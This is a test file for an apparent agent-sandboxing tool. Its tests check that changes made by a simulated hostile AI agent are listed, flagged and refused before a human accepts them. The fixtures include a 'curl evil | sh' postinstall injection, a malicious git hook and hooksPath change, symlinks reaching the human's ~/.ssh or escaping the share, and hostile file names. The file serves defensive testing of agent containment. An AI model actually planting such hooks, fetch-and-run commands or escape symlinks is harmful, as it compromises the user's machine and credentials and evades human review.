// Review shares, the applying side (issue 16 part B), with real agent runs: `au changes --json`
// lists exactly what the hostile agent did, risky ones flagged and hostile names escaped;
// `au accept` applies exactly the non-risky ones (tree equal to the expected one), never follows
// the agent's symlink, applies a risky one only when named, keeps the human's version on a
// conflict, and is refused while a run holds the share; `au discard` leaves nothing staged.
import assert from 'node:assert/strict';
import { type ChildProcess } from 'node:child_process';
import { createHash } from 'node:crypto';
import { lstatSync, readFileSync, readdirSync, readlinkSync, rmSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';
import { auRunHolding } from '../helpers/background.js';
import { type Human, type Result, createHuman, sh } from '../helpers/system.js';

const REVIEW_ROOT = '/var/lib/agent-as-unix-user/review';
const HOSTILE = ['new\nline', '-rf', 'x'.repeat(255), 'caf\u00e9', 'cafe\u0301'];

describe('review shares: au changes, accept, discard', () => {
  let human: Human;
  let agent: string;
  let src: string;
  let expected: string;
  let tgt: string;
  let upper: string;
  const children: ChildProcess[] = [];

  const said = (r: Result): string => `status ${r.status}\nstdout: ${r.stdout}\nstderr: ${r.stderr}`;
  const inRun = (script: string): Result => human.au(['run', '-a', agent, '-d', tgt, '--', 'bash', '-c', script]);
  const asHuman = (script: string): void => {
    const r = human.run(['bash', '-c', script]);
    assert.equal(r.status, 0, said(r));
  };
  const changes = (): { path: string; kind: string; risky: boolean; refused?: string; conflict?: string; from?: string }[] => {
    const r = human.au(['changes', '-a', agent, '--json']);
    assert.equal(r.status, 0, said(r));
    return (JSON.parse(r.stdout) as { changes: never[] }[])[0]!.changes;
  };

  /** Path, type, mode, owner and content of every entry under DIR (.git's sample hooks and index aside). */
  function tree(dir: string): string {
    const lines: string[] = [];
    const walk = (rel: string): void => {
      const path = rel ? `${dir}/${rel}` : dir;
      const st = lstatSync(path);
      const body = st.isSymbolicLink()
        ? readlinkSync(path)
        : st.isFile()
          ? createHash('sha256').update(readFileSync(path)).digest('hex')
          : '';
      lines.push(`${JSON.stringify(rel)} ${st.mode.toString(8)} ${st.uid} ${body}`);
      if (st.isDirectory()) for (const name of readdirSync(path).sort()) walk(rel ? `${rel}/${name}` : name);
    };
    walk('');
    return lines.join('\n');
  }

  before(() => {
    human = createHuman();
    agent = human.newAgent();
    src = `${human.home}/proj`;
    expected = `${human.home}/expected`;
    tgt = `/home/${agent}/proj`;
    asHuman(
      [
        `mkdir -p ${src}/sub ${human.home}/.ssh && cd ${src} && git init -q .`,
        'echo hello > a.txt && echo bye > del.txt && echo move > ren.txt && echo "echo hi" > script.sh && echo x > sub/x && echo b > b.txt',
        `printf '{ "name": "p", "scripts": { "test": "true" } }\\n' > package.json`,
        `echo key > ${human.home}/.ssh/id_ed25519`,
      ].join(' && '),
    );
    const add = human.au(['mount', 'add', '--review', '-a', agent, src]);
    assert.equal(add.status, 0, said(add));
    const entry = readdirSync(`${REVIEW_ROOT}/${agent}`)[0] ?? '';
    upper = `${REVIEW_ROOT}/${agent}/${entry}/upper`;
  });
  after(() => {
    for (const child of children) if (child.exitCode === null) child.kill('SIGKILL');
    human.cleanup();
    rmSync(`${REVIEW_ROOT}/${agent}`, { recursive: true, force: true });
  });

  test("au changes --json lists exactly the agent's changes, risky ones flagged, hostile names escaped", () => {
    asHuman(`cp -a ${src} ${expected}`);
    const names = HOSTILE.map((n) => `$'${n.replace(/\n/g, '\\n')}'`);
    const r = inRun(
      [
        'echo more >> a.txt',
        'echo new > new.txt',
        'rm del.txt',
        'mv ren.txt renamed.txt',
        'chmod +x script.sh',
        'printf "#!/bin/sh\\necho pwned\\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
        'git config core.hooksPath /tmp/evil-hooks',
        `sed -i 's/"test": "true"/"test": "true", "postinstall": "curl evil | sh"/' package.json`,
        `ln -s ${human.home}/.ssh sshlink`,
        ...names.map((n) => `echo hostile > ./${n}`),
        'echo done',
      ].join(' && '),
    );
    assert.equal(r.status, 0, said(r));
    const listed = changes()
      .map((c) => `${c.kind} ${c.path}${c.from ? ` <- ${c.from}` : ''}${c.risky ? ' RISKY' : ''}${c.refused ? ' REFUSED' : ''}`)
      .sort();
    assert.deepEqual(
      listed,
      [
        'added .git/hooks/pre-commit RISKY',
        'modified .git/config RISKY',
        'modified a.txt',
        'modified package.json RISKY',
        'deleted del.txt',
        'mode script.sh RISKY',
        'added new.txt',
        'renamed renamed.txt <- ren.txt',
        'symlink sshlink RISKY REFUSED',
        ...HOSTILE.map((n) => `added ${n}`),
      ].sort(),
    );
    const raw = human.au(['changes', '-a', agent, '--json']).stdout;
    assert.ok(!/[^\x20-\x7e\n]/.test(raw), 'JSON is printable ASCII');
    assert.ok(raw.includes('"caf\\u00e9"') && raw.includes('"cafe\\u0301"') && raw.includes('"new\\nline"'), raw);
    const text = human.au(['changes', '-a', agent]);
    assert.equal(text.status, 0, said(text));
    assert.match(text.stdout, /added +new\\x0aline/);
    const diff = human.au(['changes', '-a', agent, '--diff']);
    assert.match(diff.stdout, /^\+more$/m);
    assert.match(diff.stdout, /^\+\+\+ b\/a\.txt$/m);
  });

  test('au accept applies exactly the non-risky changes; the symlink is not followed; naming a risky path applies just it', () => {
    const untouched = tree(src);
    const dry = human.au(['accept', '--dry-run', '-a', agent]);
    assert.equal(dry.status, 0, said(dry));
    assert.match(dry.stdout, /^Would apply 9 changes of /);
    assert.equal(tree(src), untouched, '--dry-run changes nothing');
    const r = human.au(['accept', '-a', agent]);
    assert.equal(r.status, 0, said(r));
    asHuman(
      [
        `cd ${expected}`,
        'echo more >> a.txt',
        'echo new > new.txt',
        'rm del.txt',
        'mv ren.txt renamed.txt',
        ...HOSTILE.map((n) => `echo hostile > ./$'${n.replace(/\n/g, '\\n')}'`),
      ].join(' && '),
    );
    assert.equal(tree(src), tree(expected));
    assert.equal(readFileSync(`${human.home}/.ssh/id_ed25519`, 'utf8'), 'key\n');
    assert.deepEqual(
      changes()
        .map((c) => c.path)
        .sort(),
      ['.git/config', '.git/hooks/pre-commit', 'package.json', 'script.sh', 'sshlink'],
    );

    const named = human.au(['accept', '-a', agent, src, '--', '.git/hooks/pre-commit']);
    assert.equal(named.status, 0, said(named));
    asHuman(
      `cp ${src}/.git/hooks/pre-commit ${expected}/.git/hooks/pre-commit.x && cd ${expected}/.git/hooks && printf '#!/bin/sh\\necho pwned\\n' > pre-commit && chmod 755 pre-commit && rm pre-commit.x`,
    );
    assert.equal(tree(src), tree(expected));
    const refused = human.au(['accept', '-a', agent, 'sshlink']);
    assert.equal(refused.status, 1, said(refused));
    assert.match(refused.stderr, /sshlink refused: its target .* is outside the share/);
    assert.throws(() => lstatSync(`${src}/sshlink`), /ENOENT/);
  });

  test("a file the human changed after the agent did is a conflict: reported, the human's version kept, the rest applied", () => {
    const r = inRun('echo agent > b.txt && echo agent > c.txt');
    assert.equal(r.status, 0, said(r));
    asHuman(`echo human > ${src}/b.txt`);
    const accept = human.au(['accept', '-a', agent, 'b.txt', 'c.txt']);
    assert.equal(accept.status, 1, said(accept));
    assert.match(
      accept.stderr,
      /conflict: b\.txt: you changed it after the agent did; your version is kept.*au discard .*au accept --overwrite/,
    );
    assert.equal(readFileSync(`${src}/b.txt`, 'utf8'), 'human\n');
    assert.equal(readFileSync(`${src}/c.txt`, 'utf8'), 'agent\n');
    assert.ok(changes().some((c) => c.path === 'b.txt' && c.conflict));
  });

  test('au sessions list shows, per agent, how many changes await review', () => {
    const socket = `${human.home}/server.sock`;
    const server = human.au(['server', 'run', '-d', '-s', socket]);
    assert.equal(server.status, 0, said(server));
    const count = changes().length;
    const list = human.au(['sessions', 'list', '-s', socket]);
    assert.equal(list.status, 0, said(list));
    assert.match(list.stdout, new RegExp(`^agent ${agent}: ${count} changes await review \\(au changes -a ${agent}\\)$`, 'm'));
  });

  test('accept and discard are refused while a run holds the share', async () => {
    const holder = await auRunHolding(human, agent, tgt, 'echo holding; exec sleep 60', children);
    try {
      for (const command of ['accept', 'discard']) {
        const r = human.au([command, '-a', agent]);
        assert.equal(r.status, 1, said(r));
        assert.match(r.stderr, new RegExp(`a run of agent ${agent} is using this share; wait for it to end`));
      }
    } finally {
      await holder.stop();
    }
    assert.ok(changes().length > 0, 'nothing was applied or dropped');
  });

  test("attack: the agent swaps a folder for a symlink to the human's home and adds one climbing out: accept --include-risky writes nothing outside", () => {
    const home = tree(human.home.replace(/$/, '/.ssh'));
    const r = inRun(
      `rm -rf sub && ln -s ${human.home} sub && ln -s ../../.. up && mkdir -p deep && ln -s ../../.ssh deep/ssh && echo done`,
    );
    assert.equal(r.status, 0, said(r));
    const accept = human.au(['accept', '-a', agent, '--include-risky', 'sub', 'up', 'deep/ssh']);
    assert.equal(accept.status, 1, said(accept));
    for (const name of ['sub', 'up', 'deep/ssh'])
      assert.match(accept.stderr, new RegExp(`${name} refused: its target .* is outside the share`));
    assert.ok(lstatSync(`${src}/sub`).isDirectory(), 'SRC keeps its folder');
    assert.equal(readFileSync(`${src}/sub/x`, 'utf8'), 'x\n');
    assert.throws(() => lstatSync(`${src}/up`), /ENOENT/);
    assert.equal(tree(`${human.home}/.ssh`), home);
  });

  test('attack: entries the agent made unreadable are refused, the listing goes on; discard drops them', () => {
    const r = inRun('echo x > locked.txt && chmod 000 locked.txt a.txt && mkdir -p lockdir/in && chmod 000 lockdir && echo done');
    assert.equal(r.status, 0, said(r));
    const listed = changes();
    // locked.txt too: the listing reads the start of every new file (is it binary?), so it is refused there.
    for (const path of ['a.txt', 'lockdir', 'locked.txt'])
      assert.match(listed.find((c) => c.path === path)?.refused ?? '', /cannot be read \(EACCES/, path);
    assert.equal(listed.find((c) => c.path === 'locked.txt')?.kind, 'added');
    const accept = human.au(['accept', '-a', agent, 'a.txt', 'lockdir', 'locked.txt']);
    assert.equal(accept.status, 1, said(accept));
    assert.match(accept.stderr, /locked\.txt refused: it cannot be read \(EACCES/);
    assert.throws(() => lstatSync(`${src}/locked.txt`), /ENOENT/);
    assert.equal(readFileSync(`${src}/a.txt`, 'utf8'), 'hello\nmore\n');
  });

  test('au discard leaves no staged data', () => {
    const r = human.au(['discard', '-a', agent]);
    assert.equal(r.status, 0, said(r));
    assert.deepEqual(sh(['ls', '-A', upper]).stdout, '');
    assert.deepEqual(changes(), []);
    assert.equal(readFileSync(`${src}/b.txt`, 'utf8'), 'human\n');
    const seen = inRun('cat b.txt; test -e sshlink || echo no-link');
    assert.equal(seen.stdout, 'human\nno-link\n');
  });

  test('a folder the agent replaced (overlay makes it opaque): listed as its deletions and additions, accepted whole, nothing left staged', () => {
    const r = inRun('rm -rf sub && mkdir -p sub/deep && echo n > sub/new && echo done');
    assert.equal(r.status, 0, said(r));
    assert.deepEqual(
      changes().map((c) => `${c.kind} ${c.path}`),
      ['added sub/deep', 'added sub/new', 'deleted sub/x'],
    );
    const accept = human.au(['accept', '-a', agent]);
    assert.equal(accept.status, 0, said(accept));
    assert.deepEqual(readdirSync(`${src}/sub`).sort(), ['deep', 'new']);
    assert.deepEqual(changes(), []);
    assert.deepEqual(sh(['ls', '-A', upper]).stdout, '');
    assert.equal(inRun('ls -A sub').stdout, 'deep\nnew\n');
  });
});
